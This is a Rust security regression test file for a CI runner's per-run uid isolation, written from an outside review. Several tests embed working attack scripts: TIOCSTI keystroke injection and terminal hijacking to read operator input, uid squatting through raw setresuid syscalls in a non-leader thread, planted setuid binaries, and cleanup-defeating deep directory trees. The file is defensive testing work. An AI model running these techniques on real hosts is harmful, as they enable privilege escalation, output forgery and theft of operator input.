//! The third outside review of the runner's isolation (the uid per run and
//! the built filesystem): each attack is a test asserting the promise it
//! broke, shown failing before its fix. Every test leases from a range of
//! one uid of its own, outside the default range (70201-70208), so tests
//! never collide.

use std::io::{BufRead, BufReader, Write};
use std::os::unix::fs::MetadataExt;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::support::{Lab, RUNNER, lease_held, need_root, processes_of, read, threads_of};

// ---------------------------------------------------------------------------
// 1. The job inherits the caller's controlling terminal: /dev/tty is bound
//    into the view and nobody calls setsid(), so an unprivileged (dynamic)
//    job can TIOCSTI keystrokes into the root shell that started the runner.
// ---------------------------------------------------------------------------

/// A pty whose session runs `RUNNER ARGS... >/dev/null 2>&1`, then a root
/// shell reading the terminal for 3 s, as the operator's shell would once
/// the runner returns.
/// Nothing is ever typed by the harness.
const PTY_HARNESS: &str = r#"
import os, pty, sys, select, time
pid, fd = pty.fork()
if pid == 0:
    os.execv('/bin/sh', ['sh', '-c', '"$@" >/dev/null 2>&1; exec timeout --foreground -k 1 3 /bin/sh -s', 'sh'] + sys.argv[1:])
out = b''
end = time.time() + 60
while time.time() < end:
    r, _, _ = select.select([fd], [], [], 0.5)
    if r:
        try:
            data = os.read(fd, 4096)
        except OSError:
            break
        if not data:
            break
        out += data
    elif os.waitpid(pid, os.WNOHANG)[0]:
        break
try:
    os.kill(pid, 9)
except OSError:
    pass
sys.stdout.write(out.decode(errors='replace'))
"#;

#[test]
fn a_dynamic_job_cannot_type_into_the_terminal_that_started_the_runner() {
    if !need_root() {
        return;
    }
    let mut lab = Lab::new();
    lab.uid_range(70201);
    let marker = lab.host.path("pwned-by-job");
    let inject = format!("id -u > {} ; exit\n", marker.display());
    let job = format!(
        "/usr/bin/python3 -c '\nimport fcntl, termios, os, sys\ntry:\n    fd = os.open(\"/dev/tty\", os.O_RDWR)\n    for c in sys.argv[1].encode():\n        fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n    print(\"injected\")\nexcept Exception as e:\n    print(\"refused\", e)\n' '{inject}' > \"$ARTIFACT_DIR/tty\" 2>&1\nid -u >> \"$ARTIFACT_DIR/tty\"\nexit 0"
    );
    lab.job("inject", &job, "");
    lab.write_config();
    let cfg = lab.config_path();
    let mut cmd = lab.host.command("/usr/bin/python3");
    cmd.args(["-c", PTY_HARNESS, RUNNER, "--config"])
        .arg(&cfg)
        .args(["run", "--job", "inject", "--repo", "app", "--sha", &lab.sha, "--format", "json"]);
    let run = test_support::run(&mut cmd);
    // Find the run's own report of what the job did.
    let arts = lab.host.path("artifacts/runner");
    let said: Vec<String> = std::fs::read_dir(&arts)
        .map(|rd| rd.flatten().map(|e| read(&e.path().join("outputs/tty"))).collect())
        .unwrap_or_default();
    assert!(
        !marker.exists(),
        "the job (uid 70201) typed a command into the root shell that ran the runner; it ran as uid {} (job said {said:?}; terminal: {})",
        read(&marker).trim(),
        run.stdout
    );
}

/// A pty whose session runs `RUNNER ARGS...`; when the terminal shows
/// `HIJACKED`, the "operator" types a secret line into it.
const PTY_TYPIST: &str = r#"
import os, pty, sys, select, time
pid, fd = pty.fork()
if pid == 0:
    os.execv('/bin/sh', ['sh', '-c', '"$@" >/dev/null 2>&1', 'sh'] + sys.argv[1:])
out, typed = b'', False
end = time.time() + 60
while time.time() < end:
    r, _, _ = select.select([fd], [], [], 0.5)
    if r:
        try:
            data = os.read(fd, 4096)
        except OSError:
            break
        if not data:
            break
        out += data
        if b'HIJACKED' in out and not typed:
            os.write(fd, b'operator-secret\n')
            typed = True
    elif os.waitpid(pid, os.WNOHANG)[0]:
        break
sys.stdout.write(out.decode(errors='replace'))
"#;

/// Without TIOCSTI (dev.tty.legacy_tiocsti = 0), the same inherited
/// terminal still lets the job make itself the terminal's foreground
/// process group (same session) and read what the operator types.
#[test]
fn a_dynamic_job_cannot_read_what_the_operator_types() {
    if !need_root() {
        return;
    }
    let mut lab = Lab::new();
    lab.uid_range(70208);
    let job = "/usr/bin/python3 -c '\nimport os, signal\nsignal.signal(signal.SIGTTOU, signal.SIG_IGN)\nfd = os.open(\"/dev/tty\", os.O_RDWR)\nos.setpgid(0, 0)\nos.tcsetpgrp(fd, os.getpgrp())\nos.write(fd, b\"HIJACKED\\r\\n\")\nline = os.read(fd, 100)\nopen(os.environ[\"ARTIFACT_DIR\"] + \"/stolen\", \"wb\").write(line)\n' > \"$ARTIFACT_DIR/log\" 2>&1\nexit 0";
    lab.job("steal", job, "");
    lab.write_config();
    let cfg = lab.config_path();
    let mut cmd = lab.host.command("/usr/bin/python3");
    cmd.args(["-c", PTY_TYPIST, RUNNER, "--config"])
        .arg(&cfg)
        .args(["run", "--job", "steal", "--repo", "app", "--sha", &lab.sha, "--format", "json"]);
    let run = test_support::run(&mut cmd);
    let arts = lab.host.path("artifacts/runner");
    let (stolen, log): (Vec<String>, Vec<String>) = std::fs::read_dir(&arts)
        .map(|rd| {
            rd.flatten().map(|e| (read(&e.path().join("outputs/stolen")), read(&e.path().join("outputs/log")))).unzip()
        })
        .unwrap_or_default();
    assert!(
        !stolen.concat().contains("operator-secret"),
        "the job read the operator's typing: {stolen:?} (job log {log:?}; terminal: {})",
        run.stdout
    );
}

// ---------------------------------------------------------------------------
// 2. Cleanup can be made to fail for good (a tree deeper than MAX_DEPTH, or
//    deeper than RLIMIT_NOFILE under systemd's 1024): the job directory and
//    everything the uid owns stay for ever, and the uid is never leased again.
//    With a small range, one run disables every later dynamic run.
// ---------------------------------------------------------------------------

#[test]
fn one_run_cannot_leave_files_behind_for_ever_or_burn_its_uid() {
    if !need_root() {
        return;
    }
    let mut lab = Lab::new();
    lab.uid_range(70202);
    lab.job(
        "deep",
        "/usr/bin/python3 -c '\nimport os\nos.chdir(os.environ[\"HOME\"])\nfor i in range(4200):\n    os.mkdir(\"d\"); os.chdir(\"d\")\n'\nexit 0",
        "requires_repo = false\n",
    );
    lab.job("ok", "exit 0", "requires_repo = false\n");
    lab.write_config();
    let first = test_support::run(&mut lab.command(&["run", "--job", "deep", "--format", "json"]));
    let v = first.json();
    // Before the fix the removal stopped 4096 levels down (one descriptor a
    // level): the run was an error and its files stayed for good.
    assert_eq!(v["status"], "success", "{v}");
    assert_eq!(v["invariants"]["cleanup_ok"], true, "{v}");
    let mut later = Vec::new();
    for _ in 0..2 {
        let r = test_support::run(&mut lab.command(&["run", "--job", "ok", "--format", "json"]));
        let j = r.json();
        later.push(j);
    }
    let left: Vec<PathBuf> = lab
        .job_dirs()
        .into_iter()
        .map(|d| lab.host.path("run/runner").join(d))
        .filter(|d| std::fs::symlink_metadata(d.join("home")).is_ok_and(|m| m.uid() == 70202))
        .collect();
    // Best effort: do not leave 4200 levels in /tmp whatever happens.
    for d in &left {
        let _ = Command::new("/bin/rm").arg("-rf").arg(d).status();
    }
    assert!(left.is_empty(), "files of uid 70202 survive two later runs' orphan cleanup: {left:?}");
    for v in &later {
        assert_eq!(v["status"], "success", "a later run could not get a uid: {}", v["reason"]);
    }
}

// ---------------------------------------------------------------------------
// 3. The lease's "a process holds it" check reads /proc/<pid>/status only,
//    i.e. the thread-group leader's credentials. A thread that holds the uid
//    (raw setresuid in one thread, leader elsewhere) is not seen: the runner
//    leases the uid, and that thread forges the run's ARTIFACT_DIR.
// ---------------------------------------------------------------------------

const THREAD_SQUATTER: &str = r#"
import ctypes, threading, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
U = int(sys.argv[1])
SETGROUPS, SETRESGID, SETRESUID = 116, 119, 117
ready, go, target, said = threading.Event(), threading.Event(), [], []
def worker():
    assert libc.syscall(SETGROUPS, 0, None) == 0
    assert libc.syscall(SETRESGID, U, U, U) == 0
    assert libc.syscall(SETRESUID, U, U, U) == 0
    ready.set()
    go.wait()
    err = None
    for i in range(100):
        try:
            with open(os.path.join(target[0], 'result'), 'w') as f:
                f.write('forged\n')
            said.append('forged')
            return
        except OSError as e:
            err = e
            time.sleep(0.05)
    said.append('failed %s' % err)
t = threading.Thread(target=worker)
t.start()
ready.wait()
# The leader becomes nobody (this thread only): /proc/<pid>/status says 65534.
libc.syscall(SETGROUPS, 0, None); libc.syscall(SETRESGID, 65534, 65534, 65534); libc.syscall(SETRESUID, 65534, 65534, 65534)
print('ready', flush=True)
target.append(sys.stdin.readline().strip())
go.set()
t.join()
print(said[0], flush=True)
"#;

#[test]
fn a_uid_held_by_a_non_leader_thread_is_not_handed_out() {
    if !need_root() {
        return;
    }
    const U: u32 = 70203;
    let mut lab = Lab::new();
    lab.uid_range(U);
    lab.job("victim", "echo genuine > \"$ARTIFACT_DIR/result\"\nsleep 4\nexit 0", "requires_repo = false\n");
    lab.write_config();
    let mut squatter = Command::new("/usr/bin/python3")
        .args(["-c", THREAD_SQUATTER, &U.to_string()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(squatter.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "ready");
    assert!(processes_of(U).is_empty() && !threads_of(U).is_empty(), "only a thread holds {U}");
    let mut victim = lab.command(&["run", "--job", "victim", "--format", "json"]);
    let victim = victim.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut out = None;
    let started = test_support::wait_until(Duration::from_secs(10), || {
        out = lab.job_dir_holding("out", "result");
        out.is_some()
    });
    let mut said = String::from("(victim never started)");
    if started {
        writeln!(squatter.stdin.as_mut().unwrap(), "{}", out.unwrap().display()).unwrap();
        said = lines.next().unwrap().unwrap();
    }
    let _ = squatter.kill();
    let _ = squatter.wait();
    let victim = test_support::Run::from(victim.wait_with_output().unwrap());
    let v = victim.json();
    let kept = read(&lab.artifacts(v["job_id"].as_str().unwrap()).join("outputs/result"));
    assert!(
        v["run_as"]["uid"] != U,
        "uid {U} was leased while a thread of another process held it (squatter: {said}); kept result: {kept:?}"
    );
}

// ---------------------------------------------------------------------------
// 4. A setuid file of the run's uid is honoured on the host while the job
//    runs (the job directory's host mount is not nosuid unless run_dir
//    happens to be): any local user becomes the run's uid, outside the job's
//    PID namespace, and stays it after the run ends.
// ---------------------------------------------------------------------------

#[test]
fn no_process_of_a_dynamic_uid_survives_its_run_even_through_a_setuid_file() {
    if !need_root() {
        return;
    }
    const U: u32 = 70204;
    let mut lab = Lab::new();
    lab.uid_range(U);
    lab.job(
        "plant",
        "cp /bin/sleep \"$HOME/s\" && chmod 4755 \"$HOME/s\" && chmod 711 \"$HOME\" && touch \"$HOME/ready\"\nsleep 4\nexit 0",
        "requires_repo = false\n",
    );
    lab.write_config();
    let mut run = lab.command(&["run", "--job", "plant", "--format", "json"]);
    let run = run.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut home = None;
    assert!(test_support::wait_until(Duration::from_secs(10), || {
        home = lab.job_dir_holding("home", "ready");
        home.is_some()
    }));
    // A local unprivileged user (nobody) runs the planted file. (setpriv
    // itself execs with the capabilities it keeps until then: a shell of
    // nobody's makes the exec, as a real local user would.)
    let mut local = Command::new("/usr/bin/setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--", "/bin/sh", "-c", "exec \"$0\" \"$@\""])
        .stderr(Stdio::null())
        .arg(home.unwrap().join("s"))
        .arg("30")
        .spawn()
        .unwrap();
    let run = test_support::Run::from(run.wait_with_output().unwrap());
    let v = run.json();
    std::thread::sleep(Duration::from_millis(300));
    let held = processes_of(U);
    let _ = local.kill();
    let _ = local.wait();
    assert_eq!(v["status"], "success", "{v}");
    assert_eq!(held, Vec::<String>::new(), "a process of uid {U} outlived the run (euid via the job's setuid file)");
}

// ---------------------------------------------------------------------------
// 5. The lease is a lock file under the state dir, but uids are host-wide:
//    two runners with different state dirs (another --state-dir, or
//    OPENCLAW_STATE_DIR) lease the same uid to concurrent runs. The lease is
//    taken before the fetch, so the window is the whole fetch (held open
//    here by holding the repo's lock).
// ---------------------------------------------------------------------------

#[test]
fn two_runners_on_one_host_never_run_jobs_under_one_uid_at_once() {
    if !need_root() {
        return;
    }
    const U: u32 = 70205;
    let mut a = Lab::new();
    let mut b = Lab::new();
    a.uid_range(U);
    b.uid_range(U);
    a.job("slow", "id -u > \"$ARTIFACT_DIR/uid\"\nexit 0", "");
    b.job("other", "id -u > \"$ARTIFACT_DIR/uid\"\nsleep 6\nexit 0", "requires_repo = false\n");
    a.write_config();
    b.write_config();
    // Hold A's repo lock so A sits between its lease and its job.
    let locks = a.host.path("state/runner/locks");
    for d in [a.host.path("state"), a.host.path("state/runner"), locks.clone()] {
        std::fs::create_dir_all(&d).unwrap();
        std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    }
    let lockfile = locks.join("app.lock");
    std::fs::write(&lockfile, "").unwrap();
    std::fs::set_permissions(&lockfile, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let mut holder =
        Command::new("/usr/bin/flock").args(["-F", "-x"]).arg(&lockfile).args(["sleep", "60"]).spawn().unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let mut ra = a.command(&["run", "--job", "slow", "--repo", "app", "--sha", &a.sha, "--format", "json"]);
    let ra = ra.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    // A has leased U once systemd's lock on U is held.
    assert!(test_support::wait_until(Duration::from_secs(20), || lease_held(U)));
    std::thread::sleep(Duration::from_millis(300));
    // B, another runner with its own state and run directories, finds the
    // only uid of its range leased: it is refused, never run as A's uid.
    let rb = test_support::run(&mut b.command(&["run", "--job", "other", "--format", "json"]));
    let _ = holder.kill();
    let _ = holder.wait();
    let va = test_support::Run::from(ra.wait_with_output().unwrap()).json();
    let vb = rb.json();
    assert_eq!(rb.code, 2, "{vb}");
    assert_eq!(vb["status"], "error", "{vb}");
    assert!(vb["reason"].as_str().unwrap_or("").contains("no free uid"), "{vb}");
    assert_eq!(va["status"], "success", "{va}");
    assert_eq!(va["run_as"]["uid"], U);
}

// ---------------------------------------------------------------------------
// 6. The whole chain by an unprivileged local user (nobody), no root help:
//    run 1 plants a setuid+setgid copy of python3 in its HOME (run_dir on a
//    filesystem that honours setuid, as on this VM and in the tests); nobody
//    runs it during run 1, keeps the uid in one thread and drops the leader
//    back to nobody; run 2 is leased the same uid; the thread finds run 2's
//    ARTIFACT_DIR through /proc/<pid>/environ (same uid) and forges it.
// ---------------------------------------------------------------------------

const LOCAL_SQUATTER: &str = r#"
import ctypes, threading, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
U, G = os.geteuid(), os.getegid()
me, mg = os.getuid(), os.getgid()
SETRESUID, SETRESGID = 117, 119
ready, said = threading.Event(), []
def worker():
    assert libc.syscall(SETRESGID, G, G, G) == 0
    assert libc.syscall(SETRESUID, U, U, U) == 0
    ready.set()
    end = time.time() + 40
    while time.time() < end:
        for p in os.listdir('/proc'):
            if not p.isdigit():
                continue
            try:
                env = open('/proc/%s/environ' % p, 'rb').read().split(b'\0')
            except OSError:
                continue
            for v in env:
                if v.startswith(b'ARTIFACT_DIR='):
                    f = os.path.join(v[13:].decode(), 'result')
                    try:
                        if open(f).read() == 'genuine\n':
                            open(f, 'w').write('forged\n')
                            said.append('forged ' + f)
                            return
                    except OSError:
                        pass
        time.sleep(0.05)
    said.append('gave up')
t = threading.Thread(target=worker)
t.start()
ready.wait()
assert libc.syscall(SETRESGID, mg, mg, mg) == 0
assert libc.syscall(SETRESUID, me, me, me) == 0
print('ready euid was %d, leader now %d' % (U, os.geteuid()), flush=True)
t.join()
print(said[0], flush=True)
"#;

#[test]
fn a_local_user_cannot_keep_a_runs_uid_and_forge_a_later_run() {
    if !need_root() {
        return;
    }
    const U: u32 = 70207;
    let mut lab = Lab::new();
    lab.uid_range(U);
    lab.job(
        "plant",
        "cp /usr/bin/python3 \"$HOME/py\" && chmod 6755 \"$HOME/py\" && chmod 711 \"$HOME\" && touch \"$HOME/ready\"\nsleep 4\nexit 0",
        "requires_repo = false\n",
    );
    lab.job("victim", "echo genuine > \"$ARTIFACT_DIR/result\"\nsleep 4\nexit 0", "requires_repo = false\n");
    lab.write_config();
    let mut plant = lab.command(&["run", "--job", "plant", "--format", "json"]);
    let plant = plant.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut home = None;
    assert!(test_support::wait_until(Duration::from_secs(10), || {
        home = lab.job_dir_holding("home", "ready");
        home.is_some()
    }));
    let mut local = Command::new("/usr/bin/setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--", "/bin/sh", "-c", "exec \"$0\" \"$@\""])
        .stderr(Stdio::null())
        .arg(home.unwrap().join("py"))
        .args(["-c", LOCAL_SQUATTER])
        .current_dir("/")
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(local.stdout.take().unwrap()).lines();
    // Before the fix the planted file ran and said hello; now nobody cannot
    // reach it (the job directory is 0710, group the run's gid).
    let hello = lines.next().and_then(Result::ok).unwrap_or_default();
    let plant = test_support::Run::from(plant.wait_with_output().unwrap());
    assert_eq!(plant.json()["status"], "success");
    let victim = test_support::run(&mut lab.command(&["run", "--job", "victim", "--format", "json"]));
    let v = victim.json();
    let _ = local.kill();
    let said = lines.next().and_then(Result::ok).unwrap_or_default();
    let _ = local.wait();
    let kept = read(&lab.artifacts(v["job_id"].as_str().unwrap()).join("outputs/result"));
    assert_ne!(kept, "forged\n", "nobody forged run 2's output through uid {U} kept from run 1 ({said})");
    assert_eq!(v["status"], "success", "{v}");
    assert_eq!(kept, "genuine\n");
    assert!(!hello.starts_with("ready"), "nobody ran the run's setuid file: {hello}");
}

// ---------------------------------------------------------------------------
// Probes that held (asserted, printed for the report).
// ---------------------------------------------------------------------------

#[test]
fn probe_what_a_dynamic_job_reaches() {
    if !need_root() {
        return;
    }
    let mut lab = Lab::new();
    lab.uid_range(70206);
    let script = r#"o="$ARTIFACT_DIR"
{ ls /proc/1/root/ ; readlink /proc/1/cwd /proc/1/root ; ls /proc/1/fd ; } > "$o/proc1" 2>&1
ls -l /proc/self/fd > "$o/fds" 2>&1
ls -la /dev > "$o/dev" 2>&1
cat /proc/self/mountinfo > "$o/mounts" 2>&1
find / -xdev \( -path /proc -prune \) -o -writable -print 2>/dev/null | head -50 > "$o/writable0"
for m in / /tmp /var/tmp /dev /dev/shm /run /dev/mqueue "$HOME" ; do find "$m" -maxdepth 0 -writable; done > "$o/writable" 2>&1
ls -la "$(dirname "$HOME")/.." > "$o/parent" 2>&1
ls -la "$(dirname "$HOME")" > "$o/jobdir" 2>&1
ls /proc > "$o/procs" 2>&1
cat /proc/sys/dev/tty/legacy_tiocsti > "$o/tiocsti" 2>&1
echo x > /proc/sys/kernel/hostname 2>>"$o/sysw" && echo wrote >> "$o/sysw"
ls -la /var/lib /home /root /srv /mnt /opt > "$o/host" 2>&1
exit 0"#;
    lab.job("probe", script, "");
    lab.write_config();
    let v = lab.run("probe", &[]).json();
    let out = lab.artifacts(v["job_id"].as_str().unwrap()).join("outputs");
    let writable = read(&out.join("writable"));
    let home = read(&out.join("writable")).lines().last().unwrap_or("").to_owned();
    for w in writable.lines() {
        assert!(["/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", home.as_str()].contains(&w), "the job can write {w}");
    }
    assert!(!read(&out.join("host")).contains("total"), "host directories: {}", read(&out.join("host")));
    assert_eq!(v["status"], "success", "{v}");
    assert!(!read(&out.join("proc1")).contains("etc"), "the host root through /proc/1/root");
    assert!(!read(&out.join("sysw")).contains("wrote"));
}
